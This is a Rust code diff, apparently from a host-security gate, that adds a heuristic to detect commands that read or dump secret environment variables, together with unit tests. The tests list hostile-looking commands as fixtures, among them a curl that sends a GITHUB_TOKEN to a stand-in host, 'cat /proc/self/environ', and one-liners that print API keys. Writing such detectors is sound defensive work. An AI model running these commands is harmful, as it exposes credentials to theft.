@@ -6,7 +6,7 @@
 //! and tier, never its text (a command line may carry a credential).
 
 use hostguard_evidence::ExecMediationLedgerEntry;
-use hostguard_risk_core::{ExecClass, ExecTier, HostCall};
+use hostguard_risk_core::{ExecClass, ExecTier, HostCall, SecretBrokerPolicy};
 use sha2::{Digest as _, Sha256};
 
 use crate::gate::{hex, AlertContext};
@@ -20,6 +20,9 @@ pub(crate) struct Mediation {
     pub(crate) allowed: bool,
     pub(crate) reason_code: &'static str,
     pub(crate) reason: String,
+    /// Some command line expands, prints or dumps a secret env var (fed to the risk model as
+    /// a secret read: an env read through `exec` must not dodge the exfiltration shape).
+    pub(crate) secret_env: bool,
     command_digest: [u8; 32],
 }
 
@@ -53,10 +56,16 @@ impl ExtensionManager {
     /// wins (a denial over an allow, then the higher tier), so an extension cannot show the
     /// gate a harmless command and the host a dangerous one.
     pub(crate) fn mediate_exec(&self, call: &HostCall) -> Option<Mediation> {
-        call.command_lines()
+        let lines = call.command_lines();
+        let secret_env = lines
+            .iter()
+            .any(|line| reads_secret_env(&self.secret_policy, line));
+        let mut strictest = lines
             .iter()
             .map(|command| self.mediate_command(command))
-            .max_by_key(|m| (!m.allowed, m.tier))
+            .max_by_key(|m| (!m.allowed, m.tier))?;
+        strictest.secret_env = secret_env;
+        Some(strictest)
     }
 
     fn mediate_command(&self, command: &str) -> Mediation {
@@ -94,7 +103,100 @@ impl ExtensionManager {
             allowed: decision.allowed,
             reason_code: decision.reason_code,
             reason,
+            secret_env: false,
             command_digest: Sha256::digest(command.as_bytes()).into(),
+        }
+    }
+}
+
+/// Whether a command line reads a secret env var (a heuristic over the text, linear in its
+/// length): a `$NAME` / `${NAME}` expansion, `printenv NAME`, or an upper-case identifier
+/// (`os.environ["GITHUB_TOKEN"]`, `process.env.GITHUB_TOKEN`) that the secret broker judges
+/// secret; a whole-environment dump (`env`, `printenv`, `export -p`, `declare -x`, `set`
+/// alone); or `/proc/<pid>/environ`.
+pub(crate) fn reads_secret_env(policy: &SecretBrokerPolicy, line: &str) -> bool {
+    if line.contains("/environ") {
+        return true;
+    }
+    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    // Expansions and upper-case identifiers.
+    let mut rest = line;
+    while let Some(start) = rest.find(is_ident) {
+        let before = rest.get(..start).unwrap_or_default();
+        let tail = rest.get(start..).unwrap_or_default();
+        let end = tail.find(|c: char| !is_ident(c)).unwrap_or(tail.len());
+        let word = tail.get(..end).unwrap_or_default();
+        let expanded = before.ends_with('$') || before.ends_with("${");
+        let upper = word.chars().any(|c| c.is_ascii_uppercase())
+            && !word.chars().any(|c| c.is_ascii_lowercase());
+        if (expanded || upper) && policy.is_secret(word).is_some() {
+            return true;
+        }
+        rest = tail.get(end..).unwrap_or_default();
+    }
+    // Dumps and `printenv NAME`, per simple command.
+    line.split([';', '|', '&', '\n', '(', ')', '`'])
+        .any(|simple| {
+            let mut words = simple
+                .split_whitespace()
+                .map(|w| w.trim_matches(|c| c == '\'' || c == '"'))
+                .skip_while(|w| w.contains('=') || matches!(*w, "sudo" | "command" | "exec"));
+            let Some(head) = words.next() else {
+                return false;
+            };
+            let head = head.rsplit('/').next().unwrap_or(head);
+            let args: Vec<&str> = words.collect();
+            let operands: Vec<&str> = args
+                .iter()
+                .copied()
+                .filter(|w| !w.starts_with('-'))
+                .collect();
+            match head {
+                "env" | "printenv" if operands.is_empty() => true,
+                "printenv" => operands.iter().any(|n| policy.is_secret(n).is_some()),
+                "export" | "declare" | "typeset" => operands.is_empty() || args.contains(&"-p"),
+                "set" => args.is_empty(),
+                "compgen" => args.contains(&"-e") || args.contains(&"-v"),
+                _ => false,
+            }
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secret_env_reads_through_commands_are_recognised() {
+        let policy = SecretBrokerPolicy::default();
+        for line in [
+            "printenv AWS_SECRET_ACCESS_KEY",
+            "echo $GITHUB_TOKEN",
+            "curl -H \"Authorization: Bearer ${GITHUB_TOKEN}\" https://x.example",
+            "env",
+            "env -0 | base64",
+            "printenv",
+            "export -p",
+            "declare -x",
+            "set",
+            "cat /proc/self/environ",
+            "python3 -c 'import os; print(os.environ[\"OPENAI_API_KEY\"])'",
+            "node -e 'console.log(process.env.STRIPE_SECRET)'",
+            "sudo printenv GH_TOKEN",
+        ] {
+            assert!(reads_secret_env(&policy, line), "{line}");
+        }
+        for line in [
+            "ls -la",
+            "echo $HOME $PATH",
+            "printenv HOME",
+            "env FOO=bar make",
+            "set -e",
+            "export FOO=bar",
+            "git commit -m 'fix token refresh'",
+            "",
+        ] {
+            assert!(!reads_secret_env(&policy, line), "{line}");
         }
     }
 }
